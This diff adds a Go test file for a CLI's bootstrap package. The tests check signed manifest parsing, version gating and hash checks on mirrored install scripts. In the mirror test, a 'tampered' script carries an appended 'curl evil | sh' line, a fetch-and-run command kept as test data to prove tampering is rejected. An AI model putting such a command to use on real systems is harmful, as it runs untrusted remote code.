@@ -0,0 +1,340 @@
+package bootstrap
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+)
+
+const testScriptHash = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
+
+// signedManifest returns a manifest body and its detached signature.
+func signedManifest(t *testing.T, priv ed25519.PrivateKey, body string) ([]byte, []byte) {
+	t.Helper()
+	data := []byte(body)
+	sig := base64.StdEncoding.EncodeToString(ed25519.Sign(priv, data))
+	return data, []byte(sig + "\n")
+}
+
+func newTestKey(t *testing.T) (ed25519.PublicKey, ed25519.PrivateKey) {
+	t.Helper()
+	pub, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("GenerateKey: %v", err)
+	}
+	return pub, priv
+}
+
+func manifestBody(minCLI string) string {
+	return `{"version": 12, "sha256": "` + testScriptHash + `", "min_cli_version": "` + minCLI +
+		`", "url": "https://example.com/v12/bootstrap.sh"}`
+}
+
+func TestParseManifest(t *testing.T) {
+	pub, priv := newTestKey(t)
+	otherPub, _ := newTestKey(t)
+	data, sig := signedManifest(t, priv, manifestBody("1.2.0"))
+
+	tests := []struct {
+		name    string
+		data    []byte
+		sig     []byte
+		pub     ed25519.PublicKey
+		wantErr string
+	}{
+		{name: "good signature", data: data, sig: sig, pub: pub},
+		{name: "signed by another key", data: data, sig: sig, pub: otherPub, wantErr: "signature is invalid"},
+		{name: "signature not base64", data: data, sig: []byte("%%%"), pub: pub, wantErr: "decoding"},
+		{
+			name:    "tampered hash",
+			data:    []byte(strings.Replace(string(data), testScriptHash, strings.Repeat("f", 64), 1)),
+			sig:     sig,
+			pub:     pub,
+			wantErr: "signature is invalid",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			m, err := ParseManifest(tt.data, tt.sig, tt.pub)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("error = %v, want containing %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if m.Version != 12 || m.SHA256 != testScriptHash || m.MinCLIVersion != "1.2.0" || m.URL != "https://example.com/v12/bootstrap.sh" {
+				t.Errorf("manifest = %+v", m)
+			}
+		})
+	}
+}
+
+func TestParseManifestRejectsInvalidContent(t *testing.T) {
+	pub, priv := newTestKey(t)
+
+	tests := []struct {
+		name    string
+		body    string
+		wantErr string
+	}{
+		{name: "bad hash", body: `{"version": 3, "sha256": "abc", "url": "https://example.com/b.sh"}`, wantErr: "hex digest"},
+		{name: "http url", body: `{"version": 3, "sha256": "` + testScriptHash + `", "url": "http://example.com/b.sh"}`, wantErr: "https"},
+		{name: "missing version", body: `{"sha256": "` + testScriptHash + `", "url": "https://example.com/b.sh"}`, wantErr: "invalid version"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			data, sig := signedManifest(t, priv, tt.body)
+			_, err := ParseManifest(data, sig, pub)
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("error = %v, want containing %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+// manifestServer serves bootstrap.json and bootstrap.json.sig.
+func manifestServer(t *testing.T, data, sig []byte) *httptest.Server {
+	t.Helper()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/bootstrap.json":
+			w.Write(data)
+		case "/bootstrap.json.sig":
+			w.Write(sig)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+func TestResolverUsesSignedManifest(t *testing.T) {
+	pub, priv := newTestKey(t)
+	data, sig := signedManifest(t, priv, manifestBody("1.2.0"))
+	srv := manifestServer(t, data, sig)
+
+	r := &Resolver{
+		ManifestURL: srv.URL + "/bootstrap.json",
+		ScriptURL:   "https://example.com/embedded/bootstrap.sh",
+		CLIVersion:  "1.3.0",
+		PublicKey:   pub,
+	}
+	src, err := r.Resolve(context.Background())
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	want := Source{SHA256: testScriptHash, URL: "https://example.com/v12/bootstrap.sh", Label: "manifest v12"}
+	if src != want {
+		t.Errorf("source = %+v, want %+v", src, want)
+	}
+}
+
+func TestResolverFallsBackToEmbedded(t *testing.T) {
+	pub, _ := newTestKey(t)
+
+	notFound := httptest.NewServer(http.NotFoundHandler())
+	t.Cleanup(notFound.Close)
+	unreachable := httptest.NewServer(http.NotFoundHandler())
+	unreachable.Close()
+
+	for name, url := range map[string]string{
+		"not published":       notFound.URL + "/bootstrap.json",
+		"network unreachable": unreachable.URL + "/bootstrap.json",
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := &Resolver{ManifestURL: url, ScriptURL: "https://example.com/embedded/bootstrap.sh", CLIVersion: "1.3.0", PublicKey: pub}
+			src, err := r.Resolve(context.Background())
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if src != EmbeddedSource("https://example.com/embedded/bootstrap.sh") {
+				t.Errorf("source = %+v, want embedded", src)
+			}
+		})
+	}
+}
+
+func TestResolverRejectsBadSignature(t *testing.T) {
+	pub, _ := newTestKey(t)
+	_, otherPriv := newTestKey(t)
+	data, sig := signedManifest(t, otherPriv, manifestBody(""))
+	srv := manifestServer(t, data, sig)
+
+	r := &Resolver{ManifestURL: srv.URL + "/bootstrap.json", ScriptURL: "https://example.com/b.sh", CLIVersion: "1.3.0", PublicKey: pub}
+	if _, err := r.Resolve(context.Background()); err == nil || !strings.Contains(err.Error(), "signature is invalid") {
+		t.Fatalf("error = %v, want signature error (no silent fallback)", err)
+	}
+}
+
+func TestResolverMinCLIVersion(t *testing.T) {
+	pub, priv := newTestKey(t)
+	data, sig := signedManifest(t, priv, manifestBody("1.4.0"))
+	srv := manifestServer(t, data, sig)
+
+	tests := []struct {
+		cliVersion string
+		wantTooOld bool
+	}{
+		{cliVersion: "1.3.9", wantTooOld: true},
+		{cliVersion: "v0.9.0", wantTooOld: true},
+		{cliVersion: "1.4.0"},
+		{cliVersion: "2.0.0"},
+		{cliVersion: "dev"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.cliVersion, func(t *testing.T) {
+			r := &Resolver{ManifestURL: srv.URL + "/bootstrap.json", ScriptURL: "https://example.com/b.sh", CLIVersion: tt.cliVersion, PublicKey: pub}
+			_, err := r.Resolve(context.Background())
+
+			var tooOld *CLITooOldError
+			if got := errors.As(err, &tooOld); got != tt.wantTooOld {
+				t.Fatalf("CLITooOldError = %v, want %v (err: %v)", got, tt.wantTooOld, err)
+			}
+			if tt.wantTooOld {
+				msg := err.Error()
+				for _, want := range []string{"manifest v12", "mint v1.4.0 or newer", "mint update"} {
+					if !strings.Contains(msg, want) {
+						t.Errorf("error %q missing %q", msg, want)
+					}
+				}
+			} else if err != nil {
+				t.Errorf("unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+func TestEmbeddedManifestKeyIsValid(t *testing.T) {
+	if _, err := (&Resolver{}).publicKey(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestVerifySource(t *testing.T) {
+	if err := VerifySource(Source{SHA256: testScriptHash, Label: "manifest v2"}); err != nil {
+		t.Errorf("valid source: %v", err)
+	}
+	if err := VerifySource(Source{SHA256: strings.ToUpper(testScriptHash), Label: "manifest v2"}); err == nil {
+		t.Error("expected error for uppercase hash")
+	}
+	if err := VerifySource(Source{Label: SourceEmbedded}); err == nil || !strings.Contains(err.Error(), "go generate") {
+		t.Errorf("empty embedded hash error = %v, want go generate hint", err)
+	}
+}
+
+func TestManifestURL(t *testing.T) {
+	if got := ManifestURL("dev"); !strings.HasSuffix(got, "/develop/bootstrap.json") {
+		t.Errorf("ManifestURL(dev) = %q", got)
+	}
+	if got := ManifestURL("1.2.3"); !strings.HasSuffix(got, "/main/bootstrap.json") {
+		t.Errorf("ManifestURL(1.2.3) = %q", got)
+	}
+}
+
+// scriptSource returns a manifest source pinning script's hash.
+func scriptSource(script []byte) Source {
+	sum := sha256.Sum256(script)
+	return Source{SHA256: hex.EncodeToString(sum[:]), URL: "https://example.com/v12/bootstrap.sh", Label: "manifest v12"}
+}
+
+func TestResolverMirrorURL(t *testing.T) {
+	script := []byte("#!/bin/bash\necho bootstrap\n")
+	src := scriptSource(script)
+	pub, priv := newTestKey(t)
+	data, sig := signedManifest(t, priv, `{"version": 12, "sha256": "`+src.SHA256+`", "url": "`+src.URL+`"}`)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/bootstrap.json":
+			w.Write(data)
+		case "/bootstrap.json.sig":
+			w.Write(sig)
+		case "/mirror/bootstrap.sh":
+			w.Write(script)
+		case "/mirror/tampered.sh":
+			w.Write(append(script, "curl evil | sh\n"...))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(srv.Close)
+
+	tests := []struct {
+		name    string
+		mirror  string
+		wantErr string
+	}{
+		{name: "matching script", mirror: srv.URL + "/mirror/bootstrap.sh"},
+		{name: "tampered script", mirror: srv.URL + "/mirror/tampered.sh", wantErr: "want the published " + src.SHA256},
+		{name: "missing script", mirror: srv.URL + "/mirror/missing.sh", wantErr: "HTTP 404"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := &Resolver{
+				ManifestURL: srv.URL + "/bootstrap.json",
+				ScriptURL:   "https://example.com/embedded/bootstrap.sh",
+				MirrorURL:   tt.mirror,
+				CLIVersion:  "1.3.0",
+				PublicKey:   pub,
+			}
+			got, err := r.Resolve(context.Background())
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("error = %v, want containing %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			want := Source{SHA256: src.SHA256, URL: tt.mirror, Label: "manifest v12"}
+			if got != want {
+				t.Errorf("source = %+v, want %+v", got, want)
+			}
+		})
+	}
+}
+
+func TestInlineSource(t *testing.T) {
+	script := []byte("#!/bin/bash\necho bootstrap\n")
+	src := scriptSource(script)
+
+	inline, err := InlineSource(src, script)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if inline.SHA256 != src.SHA256 || inline.Label != src.Label {
+		t.Errorf("source = %+v, want %+v with the script inline", inline, src)
+	}
+	compressed, err := base64.StdEncoding.DecodeString(inline.Inline)
+	if err != nil {
+		t.Fatalf("Inline is not base64: %v", err)
+	}
+	zr, err := gzip.NewReader(bytes.NewReader(compressed))
+	if err != nil {
+		t.Fatalf("Inline is not gzipped: %v", err)
+	}
+	if got, _ := io.ReadAll(zr); !bytes.Equal(got, script) {
+		t.Errorf("Inline decodes to %q, want %q", got, script)
+	}
+
+	if _, err := InlineSource(src, []byte("#!/bin/bash\necho patched\n")); err == nil || !strings.Contains(err.Error(), "want the published") {
+		t.Errorf("mismatched script error = %v, want hash mismatch", err)
+	}
+}